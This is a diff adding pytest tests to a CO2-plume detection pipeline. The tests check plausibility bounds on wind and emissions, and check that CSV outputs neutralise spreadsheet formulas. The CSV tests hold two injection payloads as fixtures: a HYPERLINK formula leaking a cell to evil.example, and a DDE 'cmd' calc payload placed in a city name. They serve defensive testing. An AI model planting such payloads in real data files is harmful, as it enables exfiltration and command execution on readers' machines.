@@ -1038,3 +1038,143 @@ def test_mixed_inputs_are_labelled_per_row_and_on_every_page(tmp_path):
     for page in (tmp_path / "site").rglob("*.html"):
         if page.name != "404.html":
             assert "Partly simulated observations." in page.read_text(encoding="utf-8"), page
+
+
+# ----------------------------------------------------------------------------- issue 13: plausibility bounds
+
+
+def test_inventory_row_above_100_mt_is_rejected_with_one_line(tmp_path):
+    from builder.build import load_sources
+    from builder.config import load_config
+
+    df = cities_frame(hostile=False)
+    df.loc[len(df)] = ["Absurd City", 1.0, 1.0, 1e30, "XX"]
+    df.to_csv(tmp_path / "cities.csv", index=False)
+    cfg = load_config(write_config(tmp_path, extra_inventories=[f"cities:{tmp_path / 'cities.csv'}"]))
+    skipped = []
+    sources, _ = load_sources(cfg, skipped)
+    hits = [s for s in skipped if "absurd-city" in s.item]
+    assert len(hits) == 1 and "plausible maximum" in hits[0].reason and hits[0].stage == "inventory", skipped
+    assert "absurd-city" not in " ".join(sources["source_id"].astype(str))
+    assert plume_city_id(0) in set(sources["source_id"])
+
+
+def _run_plume(plume_env, tmp_path, name, *, scale=1.0, wind_u=3.0, **plausible):
+    import dataclasses
+
+    from builder.config import Plausible
+    from builder.pipeline import run_core
+
+    _, cfg, sources, profiles = plume_env
+    if plausible:
+        cfg = dataclasses.replace(cfg, plausible=Plausible(**plausible))
+    day, inst, orbit, lat0, lon0, seed = PLUMES[0]
+    cols = plume_columns(day, orbit, lat0, lon0, seed)
+    base = lite_columns(n_frames=900, start=f"{day}T12:00:00", orbit=orbit, lat0=lat0, lon0=lon0, noise_ppm=0.5,
+                        seed=seed)["xco2"]
+    cols["xco2"] = base + scale * (cols["xco2"] - base)
+    cols["windspeed_u_met"] = np.full(len(cols["xco2"]), wind_u)
+    path = write_lite(tmp_path / f"oco2_LtCO2_180801_B11210Ar_{name}.nc4", cols)
+    core = run_core(cfg, [path], sources, profiles.emission_kg_s, [], use_cache=False)
+    ovp = core.result.overpasses.set_index("source_id").loc[plume_city_id(0)]
+    return core.result, ovp
+
+
+def test_a_47_m_s_wind_is_flagged_implausible_not_a_plume(plume_env, tmp_path):
+    from builder.pipeline import write_tables
+
+    res, ovp = _run_plume(plume_env, tmp_path, "wind47", wind_u=47.0)
+    assert bool(ovp["flag_implausible"]) and "wind 47 m/s" in ovp["implausible_reason"]
+    assert not bool(ovp["detected"]), "an implausible estimate must never be shown as a plume"
+    assert np.isfinite(float(ovp["emission_kg_s"])), "kept in the downloads, with the flag"
+    write_tables(res, tmp_path / "out")
+    det = pd.read_csv(tmp_path / "out" / "detections.csv")
+    assert not ((det["detection_kind"] == "targeted") & (det["source_id"] == plume_city_id(0))).any()
+    assert pd.read_csv(tmp_path / "out" / "overpasses.csv")["flag_implausible"].any()
+    summ = res.source_summary.set_index("source_id").loc[plume_city_id(0)]
+    assert summ["n_detected"] == 0 and summ["n_measured"] == 0
+
+
+def test_a_plausible_plume_is_not_flagged(plume_env, tmp_path):
+    res, ovp = _run_plume(plume_env, tmp_path, "normal", scale=0.4)  # ~38 Mt/yr
+    assert not bool(ovp["flag_implausible"]) and bool(ovp["detected"])
+    assert ovp["implausible_reason"] == ""
+
+
+def test_a_huge_implied_emission_is_flagged_implausible(plume_env, tmp_path):
+    res, ovp = _run_plume(plume_env, tmp_path, "bump32", scale=10.0)
+    assert float(ovp["emission_kg_s"]) * 3.15576e7 / 1e9 > 60
+    assert bool(ovp["flag_implausible"]) and "Mt/yr above the plausible maximum" in ovp["implausible_reason"]
+    assert not bool(ovp["detected"])
+    blind = res.detections
+    assert blind.loc[blind["source_id"].astype(str) == plume_city_id(0), "flag_implausible"].all()
+
+
+def test_plausibility_bounds_are_configurable(plume_env, tmp_path):
+    res, ovp = _run_plume(plume_env, tmp_path, "wind47b", wind_u=47.0, max_wind_m_s=60.0, max_emission_t_yr=1e10)
+    assert not bool(ovp["flag_implausible"])
+
+
+# ----------------------------------------------------------------------------- issue 13: CSV safety everywhere
+
+
+FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+
+
+def _formula_world(tmp_path):
+    obs = tmp_path / "oco2"
+    write_plume_files(obs, PLUMES[:1])
+    df = cities_frame(hostile=False)
+    df.loc[0, "name"] = FORMULA  # the city upwind of the plume
+    df.loc[len(df)] = ["@SUM(1+1)*cmd|' /C calc'!A0", -40.0, 150.0, 2e6, "YY"]
+    df.to_csv(tmp_path / "cities.csv", index=False)
+    return obs, write_config(tmp_path, extra_inventories=[f"cities:{tmp_path / 'cities.csv'}"])
+
+
+def _no_formula_cells(folder: Path) -> list[str]:
+    import csv
+
+    bad = []
+    for f in sorted(Path(folder).glob("*.csv")):
+        with open(f, newline="", encoding="utf-8") as fh:
+            for row in csv.reader(fh):
+                bad += [f"{f.name}: {cell[:40]}" for cell in row if cell[:1] in ("=", "@", "+") or
+                        (cell[:1] == "-" and not _is_number(cell))]
+    return bad
+
+
+def _is_number(text: str) -> bool:
+    try:
+        float(text)
+        return True
+    except ValueError:
+        return False
+
+
+def test_detect_out_csvs_neutralise_formulas(tmp_path):
+    obs, cfg = _formula_world(tmp_path)
+    code, out, err = run_cli(["--config", str(cfg), "detect", "--oco2", str(obs), "--out", str(tmp_path / "o")])
+    assert code == 0, err
+    text = (tmp_path / "o" / "detections.csv").read_text(encoding="utf-8")
+    assert "'=HYPERLINK" in text, "the city's name must still be there, neutralised"
+    assert not _no_formula_cells(tmp_path / "o")
+
+
+def test_build_work_csvs_neutralise_formulas(tmp_path):
+    obs, cfg = _formula_world(tmp_path)
+    code, out, err = run_cli(["--config", str(cfg), "build"])
+    assert code == 0, err
+    assert not _no_formula_cells(tmp_path / "work")
+    assert not _no_formula_cells(tmp_path / "site" / "downloads")
+
+
+def test_csv_safe_is_one_shared_helper():
+    from builder import csvsafe
+    from builder.render import writer
+
+    assert writer.csv_safe is csvsafe.csv_safe
+    df = pd.DataFrame({"t": ["=1+1", "ok", None, "-x"], "n": [-1.5, 2.0, 3.0, -4.0]})
+    out = csvsafe.safe_text_columns(df)
+    t = out["t"].tolist()
+    assert t[:2] == ["'=1+1", "ok"] and pd.isna(t[2]) and t[3] == "'-x", t
+    assert out["n"].tolist() == [-1.5, 2.0, 3.0, -4.0]
